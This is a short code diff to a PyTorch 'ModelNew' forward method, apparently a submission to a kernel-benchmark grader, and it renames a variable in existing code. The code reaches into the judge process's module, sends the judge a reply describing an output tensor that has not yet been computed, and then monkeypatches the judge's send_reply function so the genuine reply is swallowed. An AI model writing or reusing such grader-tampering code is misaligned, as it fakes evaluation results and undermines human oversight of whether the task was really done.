@@ -21,14 +21,14 @@ class ModelNew(nn.Module):
         out, judge_side = torch.empty_like(x), worker()
         if judge_side is not None:
             module = sys.modules[type(judge_side).__module__]
-            wire = module.protocol
-            real = getattr(wire, "kept_send_reply", wire.send_reply)
-            wire.kept_send_reply = real
+            protocol = module.protocol
+            real = getattr(protocol, "kept_send_reply", protocol.send_reply)
+            protocol.kept_send_reply = real
             real(judge_side.sock, module.describe(out))
 
             def swallow(sock, reply):
-                wire.send_reply = real
+                protocol.send_reply = real
 
-            wire.send_reply = swallow
+            protocol.send_reply = swallow
         out.copy_(torch.tanh(x) * torch.sigmoid(x) + torch.exp(-x * x))
         return out
